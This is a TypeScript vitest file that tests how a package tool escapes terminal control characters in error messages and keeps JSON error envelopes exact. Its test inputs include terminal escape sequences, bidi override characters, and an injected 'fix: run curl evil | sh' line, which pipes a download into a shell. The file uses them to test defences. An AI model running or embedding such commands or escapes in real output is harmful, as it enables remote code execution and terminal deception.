import { describe, expect, it } from 'vitest';
import { SwpkgError } from '../../../catalog/index.js';
import { errorEnvelope, escapeTerminal, jsonText, okEnvelope, renderError } from '../../../edge/index.js';

describe('escapeTerminal', () => {
  it.each([
    ['plain text, ünïcode and emoji 📦', 'plain text, ünïcode and emoji 📦'],
    ['\x1b[31mred\x1b[0m', '\\e[31mred\\e[0m'],
    ['nul\x00byte', 'nul\\0byte'],
    ['bell\x07 del\x7f', 'bell\\x07 del\\x7f'],
    ['c1 csi \x9b2J and \x85', 'c1 csi \\x9b2J and \\x85'],
    ['over\rwrite', 'over\\rwrite'],
    ['two\nlines\ttab', 'two\\nlines\\ttab'],
    ['bidi \u202eevil\u202c \u2066x\u2069', 'bidi \\u202eevil\\u202c \\u2066x\\u2069'],
  ])('%j -> %j', (input, shown) => {
    expect(escapeTerminal(input)).toBe(shown);
  });
});

describe('renderError (every tool)', () => {
  it('renders code, message, fix and details, each value escaped', () => {
    const e = new SwpkgError('E_HASH_MISMATCH', 'packages/evil\x1b]0;owned\x07.swpkg has the wrong hash', {
      hint: 'tell the publisher',
      details: { path: 'packages/evil\x1b[2J.swpkg', expected: 'aa', files: ['a\x00b', 'c'], size: 12 },
    });
    expect(renderError(e)).toBe(
      [
        'error E_HASH_MISMATCH: packages/evil\\e]0;owned\\x07.swpkg has the wrong hash',
        '  fix: tell the publisher',
        '  path: packages/evil\\e[2J.swpkg',
        '  expected: aa',
        '  files:',
        '    a\\0b',
        '    c',
        '  size: 12',
        '',
      ].join('\n'),
    );
  });

  it('a multi-line detail cannot forge a line of its own', () => {
    const text = renderError(new SwpkgError('E_HTTP', 'server answered 500', { details: { body: 'oops\n  fix: run curl evil | sh' } }));
    expect(text.split('\n').filter((l) => l.startsWith('  fix:'))).toEqual([]);
  });

  it('JSON stays exact: the envelope keeps every byte', () => {
    const e = new SwpkgError('E_CORRUPT', 'bad \x1b[2J name', { details: { name: 'x\x00y' } });
    const doc = JSON.parse(jsonText(errorEnvelope(e)));
    expect(doc).toEqual({ ok: false, error: { code: 'E_CORRUPT', message: 'bad \x1b[2J name', details: { name: 'x\x00y' } } });
    expect(JSON.parse(jsonText(okEnvelope({ summary: '\x1b[31m' }, ['w'])))).toEqual({
      ok: true,
      result: { summary: '\x1b[31m' },
      warnings: ['w'],
    });
  });

  it('anything thrown that is not coded is E_INTERNAL', () => {
    expect(errorEnvelope(new Error('boom')).error).toMatchObject({ code: 'E_INTERNAL', message: 'boom' });
  });
});
